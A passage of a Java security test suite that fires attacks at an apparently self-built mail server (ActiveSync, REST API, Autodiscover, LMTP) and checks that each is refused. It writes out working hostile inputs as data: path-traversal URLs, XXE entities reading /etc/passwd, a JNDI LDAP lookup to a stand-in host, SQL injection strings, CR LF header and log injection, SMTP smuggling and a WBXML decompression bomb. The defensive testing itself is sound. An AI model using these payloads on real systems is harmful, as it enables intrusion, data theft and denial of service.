                        Arena.autodiscoverRequest(a.attacker.address()),
                        "X-Forwarded-Host: evil.example",
                        "X-Forwarded-Proto: https",
                        "Forwarded: host=evil.example;proto=https",
                        "X-Forwarded-Port: 8443"),
                Safe.status(200).and(Safe.lacks("evil.example")).and(Safe.lacks("8443"))));
        attacks.add(on(
                AUTODISCOVER,
                "a Host header choosing the host handed out",
                a -> {
                    byte[] body =
                            Arena.autodiscoverRequest(a.attacker.address()).getBytes(StandardCharsets.UTF_8);
                    return Outcome.http(RawHttp.exchange(a.port, hostHead(a, body), body));
                },
                Safe.status(200).and(Safe.lacks("evil.example"))));
        attacks.add(on(
                AUTODISCOVER,
                "asking for the victim's settings with the attacker's credentials",
                a -> a.autodiscover(Arena.autodiscoverRequest(a.victim.address())),
                Safe.status(403)));
        return attacks;
    }

    // ---- encoded paths, each decoded once and routed on that one parse

    static List<Attack> pathTricks() {
        List<Attack> attacks = new ArrayList<>();
        record Trick(Attack.Target target, String what, String path, boolean signedIn) {}
        List<Trick> tricks = List.of(
                new Trick(
                        EAS,
                        "..;/ from the EAS endpoint into the API",
                        "/Microsoft-Server-ActiveSync/..;/api/v1/accounts",
                        true),
                new Trick(
                        EAS,
                        "%2e%2e from the EAS endpoint into the actuator",
                        "/Microsoft-Server-ActiveSync/%2e%2e/actuator/env",
                        false),
                new Trick(
                        EAS,
                        "%2f.. from the EAS endpoint into the API",
                        "/Microsoft-Server-ActiveSync%2f..%2fapi%2fv1%2faccounts",
                        true),
                new Trick(
                        EAS,
                        "a double-encoded ../ from the EAS endpoint",
                        "/Microsoft-Server-ActiveSync/%252e%252e/api/v1/accounts",
                        true),
                new Trick(
                        REST,
                        "..;/ from the user's own resource into an administrator's",
                        "/api/v1/me/..;/accounts",
                        true),
                new Trick(
                        REST,
                        "%2e%2e from the user's own resource into an administrator's",
                        "/api/v1/me/%2e%2e/accounts",
                        true),
                new Trick(
                        REST,
                        "%2f in the account id of a mailbox",
                        "/api/v1/mailboxes/ATTACKER%2f..%2fVICTIM/folders",
                        true),
                new Trick(
                        REST,
                        "a double-encoded slash in the account id",
                        "/api/v1/mailboxes/ATTACKER%252f..%252fVICTIM/folders",
                        true),
                new Trick(
                        REST,
                        "; matrix parameters in the account id",
                        "/api/v1/mailboxes/VICTIM;id=ATTACKER/folders",
                        true),
                new Trick(REST, "@ in the account id", "/api/v1/mailboxes/ATTACKER@VICTIM/folders", true),
                new Trick(REST, "the admin path with a trailing slash and dot", "/api/v1/accounts/./", true),
                new Trick(REST, "the admin path in another case", "/API/V1/ACCOUNTS", true),
                new Trick(ACTUATOR, "..;/ from health into env", "/actuator/health/..;/env", false),
                new Trick(ACTUATOR, "%2e%2e from health into env", "/actuator/health/%2e%2e/env", false),
                new Trick(ACTUATOR, "; after health", "/actuator/health;/../env", false),
                new Trick(ACTUATOR, "%2f from health into heapdump", "/actuator/health%2f..%2fheapdump", false),
                new Trick(
                        ACTUATOR,
                        "a double-encoded ../ from health into env",
                        "/actuator/health/%252e%252e/env",
                        false),
                new Trick(ACTUATOR, "env as a user", "/actuator/env", true));
        for (Trick trick : tricks) {
            attacks.add(on(
                    trick.target(),
                    "path trick: " + trick.what() + " (" + trick.path() + ")",
                    a -> {
                        String path = trick.path()
                                .replace("ATTACKER", Long.toString(a.attacker.id()))
                                .replace("VICTIM", Long.toString(a.victim.id()));
                        Arena.HttpCall call = a.rest("GET", path);
                        return (trick.signedIn() ? call : call.anonymous()).send();
                    },
                    Safe.refused()
                            .and(Safe.lacks("\"address\""))
                            .and(Safe.lacks("propertySources"))
                            .and(Safe.lacks("admin@"))));
        }
        return attacks;
    }

    // ---- parsers: XML with entities, WBXML that lies

    static List<Attack> parsers() {
        String ns = "http://schemas.microsoft.com/exchange/autodiscover/mobilesync/requestschema/2006";
        String schema = "http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006";
        return List.of(
                on(
                        AUTODISCOVER,
                        "XXE: an external entity reading /etc/passwd",
                        a -> a.autodiscover(
                                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                                        + "<Autodiscover xmlns=\"" + ns + "\"><Request><EMailAddress>&x;</EMailAddress>"
                                        + "<AcceptableResponseSchema>" + schema
                                        + "</AcceptableResponseSchema></Request></Autodiscover>"),
                        Safe.status(400).and(Safe.lacks("root:"))),
                on(
                        AUTODISCOVER,
                        "XXE: an external DTD fetched over HTTP",
                        a -> a.autodiscover("<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://127.0.0.1:" + a.port
                                + "/actuator/env\"><Autodiscover xmlns=\"" + ns + "\"/>"),
                        Safe.status(400)),
                on(
                        AUTODISCOVER,
                        "billion laughs: nested entity expansion",
                        a -> a.autodiscover(billionLaughs(ns, schema)),
                        Safe.status(400)),
                on(
                        AUTODISCOVER,
                        "XInclude of a local file",
                        a -> a.autodiscover("<?xml version=\"1.0\"?><Autodiscover xmlns=\"" + ns
                                + "\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><Request><EMailAddress>"
                                + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></EMailAddress>"
                                + "<AcceptableResponseSchema>" + schema
                                + "</AcceptableResponseSchema></Request></Autodiscover>"),
                        Safe.refused().and(Safe.lacks("root:"))),
                on(
                        AUTODISCOVER,
                        "a body over the Autodiscover limit",
                        a -> a.autodiscover("<Autodiscover>" + "x".repeat(64 * 1024) + "</Autodiscover>"),
                        Safe.status(400, 413)),
                on(
                        EAS,
                        "WBXML nested 10,000 deep in a Sync",
                        a -> a.eas("Sync")
                                .body(sync(repeat((byte) 0x5C, 10_000)))
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "WBXML declaring UTF-16 while carrying UTF-8",
                        a -> a.eas("FolderSync")
                                .body(new byte[] {
                                    0x03, 0x01, 0x03, 0x00, 0x00, 0x07, 0x56, 0x52, 0x03, 'x', 0, 0, 0x01, 0x01
                                })
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "WBXML with an inline string that is not UTF-8",
                        a -> a.eas("FolderSync")
                                .body(new byte[] {
                                    0x03,
                                    0x01,
                                    0x6A,
                                    0x00,
                                    0x00,
                                    0x07,
                                    0x56,
                                    0x52,
                                    0x03,
                                    (byte) 0xC3,
                                    (byte) 0x28,
                                    (byte) 0xFF,
                                    0x00,
                                    0x01,
                                    0x01
                                })
                                .send(),
                        Safe.status(400).or(Safe.wbxml("9", "Status"))),
                on(
                        EAS,
                        "WBXML whose string table is longer than the body",
                        a -> a.eas("FolderSync")
                                .body(new byte[] {
                                    0x03, 0x01, 0x6A, (byte) 0x8F, (byte) 0xFF, (byte) 0xFF, 0x7F, 'a', 0x00
                                })
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "WBXML opaque data whose length runs past the end",
                        a -> a.eas("SendMail")
                                .body(new byte[] {
                                    0x03,
                                    0x01,
                                    0x6A,
                                    0x00,
                                    0x00,
                                    0x15,
                                    0x45,
                                    0x50,
                                    (byte) 0xC3,
                                    (byte) 0x84,
                                    (byte) 0x80,
                                    0x00,
                                    'x',
                                    0x01,
                                    0x01
                                })
                                .send(),
                        Safe.wbxml("102", "Status")),
                on(
                        EAS,
                        "a WBXML document of another command's code page",
                        a -> a.eas("Sync")
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.wbxml("4", "Status")));
    }

    // ---- bodies too large, too slow, too many folders

    static List<Attack> sizes() {
        return List.of(
                on(
                        EAS,
                        "a body over max-request-bytes with its Content-Length",
                        a -> a.eas("Sync").body(new byte[1024 * 1024 + 1]).send(),
                        Safe.status(413)),
                on(
                        EAS,
                        "a chunked body over max-request-bytes without a Content-Length",
                        a -> a.eas("Sync")
                                .body(new byte[2 * 1024 * 1024])
                                .chunked()
                                .send(),
                        Safe.status(413)),
                on(
                        EAS,
                        "a Content-Length of 2^63-1",
                        a -> Outcome.http(RawHttp.exchange(
                                a.port,
                                RawHttp.head(
                                        "POST",
                                        a.eas("Sync").target(),
                                        List.of(
                                                "Authorization: " + a.attacker.basic(),
                                                "MS-ASProtocolVersion: 14.1",
                                                "Content-Type: application/vnd.ms-sync.wbxml",
                                                "Content-Length: 9223372036854775807")))),
                        Safe.status(400, 413)),
                on(
                        EAS,
                        "a body that stops after half its Content-Length",
                        a -> Outcome.http(RawHttp.exchange(
                                a.port,
                                RawHttp.head(
                                        "POST",
                                        a.eas("FolderSync").target(),
                                        List.of(
                                                "Authorization: " + a.attacker.basic(),
                                                "MS-ASProtocolVersion: 14.1",
                                                "X-MS-PolicyKey: " + a.attacker.phone.policyKey(),
                                                "Content-Type: application/vnd.ms-sync.wbxml",
                                                "Content-Length: 100")),
                                Arrays.copyOf(Arena.wbxml(folderSync("0")), 6))),
                        (outcome, a) -> assertThat(outcome.status()).isNotEqualTo(200)),
                on(EAS, "a slow body holds nothing the victim needs", Attacks::slowBody, Safe.wbxml("1", "Status"))
                        .attackerMayChange(),
                on(
                        EAS,
                        "a Ping of 10,000 folders",
                        a -> {
                            long[] ids = new long[10_000];
                            Arrays.setAll(ids, i -> a.attacker.inbox + i);
                            return a.eas("Ping").body(PingBodies.ping(60, ids)).send();
                        },
                        Safe.wbxml("6", "Status")),
                on(
                        EAS,
                        "a Sync of 10,000 collections",
                        a -> {
                            WbxmlElement collections = WbxmlElement.of(A, "Collections");
                            for (int i = 0; i < 10_000; i++) {
                                collections.add(WbxmlElement.of(A, "Collection")
                                        .add("SyncKey", "0")
                                        .add("CollectionId", Long.toString(a.victim.inbox + i)));
                            }
                            return a.eas("Sync")
                                    .body(WbxmlElement.of(A, "Sync").add(collections))
                                    .send();
                        },
                        Safe.wbxml("15", "Status")),
                on(
                        REST,
                        "a folder name of two megabytes",
                        a -> a.rest("POST", "/api/v1/mailboxes/" + a.attacker.id() + "/folders")
                                .json("{\"name\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}")
                                .send(),
                        Safe.status(400, 413)));
    }

    // ---- CR LF, JNDI lookups and SQL in stored and logged values

    static List<Attack> injection() {
        return List.of(
                on(
                        EAS,
                        "CR LF in the Basic username, until sign-in backs off",
                        a -> {
                            Outcome last = null;
                            for (int i = 0; i < 7; i++) {
                                last = a.eas("FolderSync")
                                        .authorization("Basic "
                                                + Arena.base64("nobody-" + a.marker + "\r\n" + FORGED
                                                        + " admin signed in:wrong"))
                                        .body(folderSync("0"))
                                        .send();
                            }
                            return last;
                        },
                        Safe.status(400, 401, 429)),
                on(
                        REST,
                        "CR LF in the Basic username of an API call",
                        a -> a.rest("GET", "/api/v1/me")
                                .auth("Basic " + Arena.base64("nobody\r\n" + FORGED + ":wrong"))
                                .send(),
                        Safe.problem(400, 401)),
                on(
                        EAS,
                        "CR LF in the DeviceId",
                        a -> a.eas("FolderSync")
                                .deviceId("Phone%0D%0A" + FORGED)
                                .body(folderSync("0"))
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "a JNDI lookup in the DeviceId",
                        a -> a.eas("FolderSync")
                                .deviceId("%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D")
                                .body(folderSync("0"))
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "CR LF in the DeviceType",
                        a -> a.eas("FolderSync")
                                .deviceType("Phone%0D%0A" + FORGED)
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.status(400)),
                on(
                                EAS,
                                "a JNDI lookup in the User-Agent, stored as plain text",
                                a -> a.eas("FolderSync")
                                        .header("User-Agent: " + JNDI)
                                        .body(folderSync(a.attacker.folderSyncKey))
                                        .send(),
                                Safe.wbxml("1", "Status")
                                        .and((outcome, a) -> assertThat(a.devices
                                                        .find(a.attacker.id(), a.attacker.deviceId)
                                                        .orElseThrow()
                                                        .userAgent())
                                                .isIn(JNDI, null)))
                        .attackerMayChange(),
                on(
                                EAS,
                                "a raw CR LF in the User-Agent",
                                a -> a.eas("FolderSync")
                                        .header("User-Agent: Phone\r" + FORGED + ": x\rX: y")
                                        .body(folderSync(a.attacker.folderSyncKey))
                                        .send(),
                                (outcome, a) -> assertThat(a.devices
                                                .find(a.attacker.id(), a.attacker.deviceId)
                                                .orElseThrow()
                                                .userAgent())
                                        .doesNotContain("\r")
                                        .doesNotContain("\n"))
                        .attackerMayChange(),
                on(
                        EAS,
                        "CR LF in a new folder's name",
                        a -> a.eas("FolderCreate")
                                .body(WbxmlElement.of(F, "FolderCreate")
                                        .add("SyncKey", a.attacker.folderSyncKey)
                                        .add("ParentId", "0")
                                        .add("DisplayName", "Bills\r\n" + FORGED)
                                        .add("Type", "12"))
                                .send(),
                        Safe.wbxml("10", "Status")),
                on(
                                EAS,
                                "a JNDI lookup as a new folder's name, stored as plain text",
                                a -> a.eas("FolderCreate")
                                        .body(WbxmlElement.of(F, "FolderCreate")
                                                .add("SyncKey", a.attacker.folderSyncKey)
                                                .add("ParentId", "0")
                                                .add("DisplayName", JNDI)
                                                .add("Type", "12"))
                                        .send(),
                                Safe.wbxml("1", "Status")
                                        .and((outcome, a) -> assertThat(a.mailboxes.folders(a.attacker.id()))
                                                .anyMatch(
                                                        folder -> folder.name().equals(JNDI))))
                        .attackerMayChange(),
                on(
                        REST,
                        "CR LF in a new folder's name",
                        a -> a.rest("POST", "/api/v1/mailboxes/" + a.attacker.id() + "/folders")
                                .json("{\"name\":\"Bills\\r\\n" + FORGED + "\"}")
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "CR LF in an API token's name",
                        a -> a.rest("POST", "/api/v1/me/tokens")
                                .json("{\"name\":\"script\\r\\nSet-Cookie: " + FORGED + "=1\"}")
                                .send(),
                        Safe.problem(400)
                                .and((outcome, a) ->
                                        assertThat(outcome.header("Set-Cookie")).isEmpty())),
                on(
                        REST,
                        "SQL in the sort parameter of the device list",
                        a -> a.rest("GET", "/api/v1/devices?sort=firstSync%3BDROP%20TABLE%20device--")
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "SQL in the order parameter of the device list",
                        a -> a.rest("GET", "/api/v1/devices?order=asc,(SELECT%20pg_sleep(10))")
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "SQL in the model filter of the device list",
                        a -> a.rest("GET", "/api/v1/devices?model=%27%20OR%20%271%27%3D%271")
                                .send(),
                        Safe.status(200)
                                .and((outcome, a) -> assertThat(outcome.text()).doesNotContain(a.attacker.deviceId))),
                on(
                        REST,
                        "SQL and LIKE wildcards in an administrator's account search",
                        a -> a.rest("GET", "/api/v1/accounts?q=%25%27%20OR%201%3D1%20--")
                                .auth(ADMIN)
                                .send(),
                        Safe.status(200)
                                .and((outcome, a) -> assertThat(outcome.text()).doesNotContain(a.attacker.address()))),
                on(
                        REST,
                        "SQL in the actor filter of the audit trail",
                        a -> a.rest("GET", "/api/v1/audit?actor=x%27%20OR%20%271%27%3D%271")
                                .auth(ADMIN)
                                .send(),
                        Safe.status(200)
                                .and((outcome, a) -> assertThat(
                                                outcome.json().path("items").size())
                                        .isZero())),
                on(
                                EAS,
                                "SendMail whose encoded display name decodes to CR LF and a Bcc to the victim",
                                a -> a.eas("SendMail")
                                        .body(sendMail(
                                                "inject-" + a.marker,
                                                "From: =?utf-8?Q?Mallory=0D=0ABcc:_"
                                                        + a.victim.address().replace("@", "=40")
                                                        + "?= <" + a.attacker.address()
                                                        + ">\r\nTo: someone@example.org\r\n"
                                                        + "Subject: hello\r\n\r\nbody\r\n"))
                                        .send(),
                                Safe.status(200))
                        .attackerMayChange(),
                on(
                        REST,
                        "CR LF in an account's display name",
                        a -> a.rest("PUT", "/api/v1/accounts/" + a.attacker.id())
                                .auth(ADMIN)
                                .json("{\"displayName\":\"Mallory\\r\\nBcc: " + a.victim.address()
                                        + "\",\"role\":\"USER\",\"enabled\":true,\"easEnabled\":true}")
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "an attachment named ../../../../etc/passwd",
                        a -> a.rest(
                                        "GET",
                                        "/api/v1/mailboxes/" + a.attacker.id() + "/messages/" + a.attacker.message.id()
                                                + "/attachments/0")
                                .send(),
                        Safe.status(200)
                                .and((outcome, a) -> assertThat(outcome.header("Content-Disposition"))
                                        .doesNotContain("/")
                                        .doesNotContain("\\")
                                        .doesNotContain(".."))));
    }

    // ---- LMTP

    static List<Attack> lmtp() {
        return List.of(
                on(
                        LMTP,
                        "MAIL FROM before LHLO",
                        a -> a.lmtp(l -> l.say("MAIL FROM:<eve@example.org>")),
                        Safe.lmtp(503)),
                on(
                        LMTP,
                        "RCPT TO before MAIL FROM",
                        a -> a.lmtp(l -> l.say("LHLO mta").say("RCPT TO:<" + a.victim.address() + ">")),
                        Safe.lmtp(503)),
                on(
                        LMTP,
                        "DATA without a recipient",
                        a -> a.lmtp(l -> l.say("LHLO mta")
                                .say("MAIL FROM:<eve@example.org>")
                                .say("DATA")),
                        Safe.lmtp(503).or(Safe.lmtp(554))),
                on(
                        LMTP,
                        "a command line of 100,000 characters",
                        a -> a.lmtp(l -> l.say("LHLO mta").say("MAIL FROM:<" + "e".repeat(100_000) + "@example.org>")),
                        (outcome, a) -> assertThat(outcome.replies().getLast()).matches("5\\d\\d .*|<closed>")),
                on(
                        LMTP,
                        "RCPT TO the victim's name at a foreign domain",
                        a -> a.lmtp(l -> l.say("LHLO mta")
                                .say("MAIL FROM:<eve@example.org>")
                                .say("RCPT TO:<" + a.victim.address().replace("@atoll.test", "@evil.example") + ">")),
                        (outcome, a) -> assertThat(outcome.replies().getLast()).startsWith("550")),
                on(
                        LMTP,
                        "NUL in RCPT TO",
                        a -> a.lmtp(l -> l.say("LHLO mta")
                                .say("MAIL FROM:<eve@example.org>")
                                .say("RCPT TO:<" + a.attacker.address() + "\0" + a.victim.address() + ">")),
                        (outcome, a) -> assertThat(outcome.replies().getLast()).startsWith("5")),
                on(
                                LMTP,
                                "bare LF dot smuggling a second message to the victim",
                                a -> a.lmtp(l -> l.say("LHLO mta")
                                        .say("MAIL FROM:<eve@example.org>")
                                        .say("RCPT TO:<" + a.attacker.address() + ">")
                                        .say("DATA")
                                        .raw(
                                                ("Subject: first\r\n\r\nhello\n.\nMAIL FROM:<eve@example.org>\r\nRCPT TO:<"
                                                                + a.victim.address()
                                                                + ">\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n")
                                                        .getBytes(StandardCharsets.UTF_8),
                                                1)),
                                (outcome, a) ->
                                        assertThat(outcome.replies().getLast()).matches("(250|5\\d\\d) .*"))
                        .attackerMayChange(),
                on(
                                LMTP,
                                "NUL bytes in message data",
                                a -> a.lmtp(l -> l.say("LHLO mta")
                                        .say("MAIL FROM:<eve@example.org>")
                                        .say("RCPT TO:<" + a.attacker.address() + ">")
                                        .say("DATA")
                                        .raw(
                                                "Subject: nul\0\r\n\r\nbody\0with\0nuls\r\n.\r\n"
                                                        .getBytes(StandardCharsets.UTF_8),
                                                1)),
                                (outcome, a) ->
                                        assertThat(outcome.replies().getLast()).matches("(250|554|550) .*"))
                        .attackerMayChange(),
                on(
                        LMTP,
                        "DATA larger than max-message-bytes",
                        a -> a.lmtp(l -> l.say("LHLO mta")
                                .say("MAIL FROM:<eve@example.org>")
                                .say("RCPT TO:<" + a.attacker.address() + ">")
                                .say("DATA")
                                .raw(huge(2 * 1024 * 1024), 1)),
                        (outcome, a) -> assertThat(outcome.replies().getLast()).startsWith("552")),
                on(
                        LMTP,
                        "SIZE= declaring more than max-message-bytes",
                        a -> a.lmtp(l -> l.say("LHLO mta").say("MAIL FROM:<eve@example.org> SIZE=99999999999")),
                        (outcome, a) -> assertThat(outcome.replies().getLast()).startsWith("552")));
    }

    // ---- WBXML that decodes to far more than it weighs, operations past their bounds, acknowledgements never offered

    static List<Attack> amplification() {
        return List.of(
                on(
                        EAS,
                        "a 90 KB FolderSync naming one 30,000-byte string-table entry 30,000 times, without a PolicyKey:"
                                + " decoded, and refused, before provisioning is asked for (WBXML 1.3 5.8.4.3)",
                        a -> a.eas("FolderSync")
                                .policyKey(null)
                                .body(amplifyingFolderSync())
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "a 90 KB FolderSync naming one 30,000-byte string-table entry 30,000 times, from the"
                                + " attacker's provisioned phone",
                        a -> a.eas("FolderSync").body(amplifyingFolderSync()).send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "a FolderSync naming a one-byte string-table entry 10,001 times, one past the limit",
                        a -> a.eas("FolderSync")
                                .body(stringTableReferences(10_001))
                                .send(),
                        Safe.status(400)),
                on(
                        EAS,
                        "101 ItemOperations Fetches of the attacker's own attachment, one past the most of one request"
                                + " (MS-ASCMD 2.2.1.10)",
                        a -> {
                            WbxmlElement request = WbxmlElement.of(I, "ItemOperations");
                            for (int i = 0; i < 101; i++) {
                                request.add(attachmentFetch(a.attacker.fileReference, null));
                            }
                            return a.eas("ItemOperations").body(request).send();
                        },
                        Safe.wbxml("1", "Status").and((outcome, a) -> {
                            List<WbxmlElement> answers = outcome.wbxml()
                                    .child("Response")
                                    .orElseThrow()
                                    .children();
                            assertThat(answers).as("answers of %s", outcome).hasSize(101);
                            assertThat(answers.subList(0, 100))
                                    .allSatisfy(
                                            f -> assertThat(f.text("Status")).hasValue("1"));
                            assertThat(answers.get(100).text("Status"))
                                    .as("the operation past the bound")
                                    .hasValue("2");
                        })),
                on(
                        EAS,
                        "an ItemOperations Range on a zero-byte attachment (MS-ASCMD 2.2.3.177.8)",
                        a -> a.eas("ItemOperations")
                                .body(itemOperations(attachmentFetch(a.emptyAttachment, "0-9")))
                                .send(),
                        Safe.wbxml("8", "Response", "Fetch", "Status")),
                on(
                        EAS,
                        "an ItemOperations Range starting past the end of the attachment, beyond 2^32",
                        a -> a.eas("ItemOperations")
                                .body(itemOperations(
                                        attachmentFetch(a.attacker.fileReference, "4294967296-4294967297")))
                                .send(),
                        Safe.wbxml("8", "Response", "Fetch", "Status")),
                on(
                        EAS,
                        "a Provision acknowledging with Status 2 a PolicyKey that was never offered (MS-ASPROV 3.2.5.1.2)",
                        a -> a.eas("Provision")
                                .body(WbxmlElement.of(CodePage.PROVISION, "Provision")
                                        .add(WbxmlElement.of(CodePage.PROVISION, "Policies")
                                                .add(WbxmlElement.of(CodePage.PROVISION, "Policy")
                                                        .add("PolicyType", "MS-EAS-Provisioning-WBXML")
                                                        .add("PolicyKey", "1234567")
                                                        .add("Status", "2"))))
                                .send(),
                        Safe.wbxml("5", "Policies", "Policy", "Status")
                                .or(Safe.wbxml("139", "Policies", "Policy", "Status"))
                                .and((outcome, a) -> assertThat(outcome.wbxml()
                                                .child("Policies")
                                                .flatMap(p -> p.child("Policy"))
                                                .flatMap(p -> p.text("PolicyKey")))
                                        .as("a PolicyKey issued for a key never offered")
                                        .isEmpty())));
    }

    // ---- the directory: disabled colleagues, LIKE wildcards, recipient floods

    static List<Attack> directory() {
        return List.of(
                on(
                        EAS,
                        "a Search of the GAL for a disabled colleague's name (MS-ASCMD 2.2.1.16)",
                        a -> a.eas("Search").body(galSearch(a.marker)).send(),
                        Safe.wbxml("0", "Response", "Store", "Total")
                                .and(Safe.lacks(a -> a.departedAddress))
                                .and(Safe.lacks(a -> a.departedName))),
                on(
                        EAS,
                        "a Search of the GAL for the start of a disabled colleague's address",
                        a -> a.eas("Search")
                                .body(galSearch(a.departedAddress.substring(0, a.departedAddress.indexOf('@'))))
                                .send(),
                        Safe.wbxml("0", "Response", "Store", "Total").and(Safe.lacks(a -> a.departedName))),
                on(
                        EAS,
                        "a Search of the GAL for % to list every account",
                        a -> a.eas("Search").body(galSearch("%")).send(),
                        Safe.wbxml("0", "Response", "Store", "Total").and(Safe.lacks(a -> a.victim.address()))),
                on(
                        EAS,
                        "a Search of the GAL for _ to list every account with a one-letter name part",
                        a -> a.eas("Search").body(galSearch("_")).send(),
                        Safe.wbxml("0", "Response", "Store", "Total")),
                on(
                        EAS,
                        "a ResolveRecipients of a disabled colleague's address (MS-ASCMD 2.2.1.15)",
                        a -> a.eas("ResolveRecipients")
                                .body(WbxmlElement.of(CodePage.RESOLVE_RECIPIENTS, "ResolveRecipients")
                                        .add("To", a.departedAddress))
                                .send(),
                        Safe.wbxml("4", "Response", "Status").and(Safe.lacks(a -> a.departedName))),
                on(
                        EAS,
                        "a ResolveRecipients with 101 To elements, one past the most of one request",
                        a -> {
                            WbxmlElement request = WbxmlElement.of(CodePage.RESOLVE_RECIPIENTS, "ResolveRecipients");
                            for (int i = 0; i < 101; i++) {
                                request.add("To", "someone" + i);
                            }
                            return a.eas("ResolveRecipients").body(request).send();
                        },
                        Safe.wbxml("5", "Status")));
    }

    // ---- guessing and forging Basic credentials

    static List<Attack> signIn() {
        return List.of(
                on(
                        REST,
                        "one guess of the victim's password (under the back-off's free failures)",
                        a -> a.rest("GET", "/api/v1/me")
                                .auth("Basic " + Arena.base64(a.victim.address() + ":Summer2026!"))
                                .send(),
                        Safe.status(401)),
                on(
                        REST,
                        "25 sign-ins of distinct unknown logins with wrong passwords",
                        a -> {
                            Outcome last = null;
                            for (int i = 0; i < 25; i++) {
                                last = a.rest("GET", "/api/v1/me")
                                        .auth("Basic "
                                                + Arena.base64(
                                                        "nobody-" + i + "-" + a.marker + "@atoll.test:wrong " + i))
                                        .send();
                                assertThat(last.status())
                                        .as("unknown login %s: %s", i, last)
                                        .isEqualTo(401);
                            }
                            return last;
                        },
                        Safe.status(401)),
                on(
                        REST,
                        "CR LF and a forged log line in the Basic username",
                        a -> a.rest("GET", "/api/v1/me")
                                .auth("Basic "
                                        + Arena.base64(a.victim.address() + "\r\n" + FORGED
                                                + " admin@example.test signed in:whatever"))
                                .send(),
                        Safe.status(401).and(Safe.lacks("Exception")).and(Safe.lacks(FORGED))),
                on(
                        EAS,
                        "CR LF and a forged log line in the Basic username of an ActiveSync request",
                        a -> a.eas("FolderSync")
                                .authorization("Basic "
                                        + Arena.base64(
                                                a.attacker.address() + "\r\n" + FORGED + ":" + a.attacker.password))
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.status(401).and(Safe.lacks("Exception")).and(Safe.lacks(FORGED))),
                on(
                        REST,
                        "a NUL in the Basic username",
                        a -> a.rest("GET", "/api/v1/me")
                                .auth("Basic " + Arena.base64("a\u0000" + a.victim.address() + ":whatever"))
                                .send(),
                        Safe.status(401).and(Safe.lacks("Exception"))),
                on(
                        REST,
                        "a Basic username of 513 characters",
                        a -> a.rest("GET", "/api/v1/me")
                                .auth("Basic " + Arena.base64("a".repeat(502) + "@atoll.test:whatever"))
                                .send(),
                        Safe.status(401).and(Safe.lacks("Exception"))),
                on(
                        REST,
                        "a 300-byte password of bytes that are not UTF-8 for the attacker's own login",
                        a -> {
                            byte[] login = (a.attacker.address() + ":").getBytes(StandardCharsets.UTF_8);
                            byte[] garbage = new byte[300];
                            new java.util.Random(300).nextBytes(garbage);
                            byte[] credentials = Arrays.copyOf(login, login.length + garbage.length);
                            System.arraycopy(garbage, 0, credentials, login.length, garbage.length);
                            return a.rest("GET", "/api/v1/me")
                                    .auth("Basic "
                                            + java.util.Base64.getEncoder().encodeToString(credentials))
                                    .send();
                        },
                        Safe.status(401).and(Safe.lacks("Exception"))),
                on(
                        REST,
                        "a user setting their own password to 257 characters through the administrators' password reset",
                        a -> a.rest("POST", "/api/v1/accounts/" + a.attacker.id() + "/password")
                                .json("{\"password\":\"" + "k".repeat(257) + "\"}")
                                .send(),
                        Safe.problem(403)
                                .and((outcome, a) -> assertThat(a.rest("GET", "/api/v1/me")
                                                .send()
                                                .status())
                                        .as("the attacker's password still signs in")
                                        .isEqualTo(200))));
    }

    // ---- helpers

    static WbxmlElement folderSync(String key) {
        return WbxmlElement.of(F, "FolderSync").add("SyncKey", key);
    }

    static byte[] sync(byte[] rest) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x03, 0x01, 0x6A, 0x00, 0x00, 0x00, 0x45});
        out.writeBytes(rest);
        return out.toByteArray();
    }

    static byte[] repeat(byte value, int count) {
        byte[] bytes = new byte[count];
        Arrays.fill(bytes, value);
        return bytes;
    }

    private static String base64Query(String user, String deviceId, String command) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int code = switch (command) {
            case "FolderSync" -> 9;
            default -> throw new IllegalArgumentException(command);
        };
        out.write(141);
        out.write(code);
        out.write(0);
        out.write(0);
        byte[] id = deviceId.getBytes(StandardCharsets.US_ASCII);
        out.write(id.length);
        out.writeBytes(id);
        out.write(4);
        out.writeBytes(new byte[] {0, 0, 0, 0});
        byte[] type = "SmartPhone".getBytes(StandardCharsets.US_ASCII);
        out.write(type.length);
        out.writeBytes(type);
        byte[] userBytes = user.getBytes(StandardCharsets.UTF_8);
        out.write(8);
        out.write(userBytes.length);
        out.writeBytes(userBytes);
        return java.net.URLEncoder.encode(
                java.util.Base64.getEncoder().encodeToString(out.toByteArray()), StandardCharsets.US_ASCII);
    }

    private static Outcome syncCommands(Arena a, WbxmlElement command) throws Exception {
        return a.eas("Sync")
                .body(Arena.syncOf(
                        Long.toString(a.attacker.inbox),
                        a.attacker.inboxSyncKey,
                        WbxmlElement.of(A, "Commands").add(command)))
                .send();
    }

    /**
     * A FolderSync whose string table holds one entry of 30,000 bytes, and 60 SyncKey elements naming it 500 times
     * each: about 90 KB on the wire, 900 MB of text once decoded.
     */
    private static byte[] amplifyingFolderSync() {
        int entry = 30_000;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x03, 0x01, 0x6A});
        int tableLength = entry + 1;
        out.write(0x80 | (tableLength >> 14));
        out.write(0x80 | ((tableLength >> 7) & 0x7F));
        out.write(tableLength & 0x7F);
        out.writeBytes(repeat((byte) 'x', entry));
        out.write(0x00);
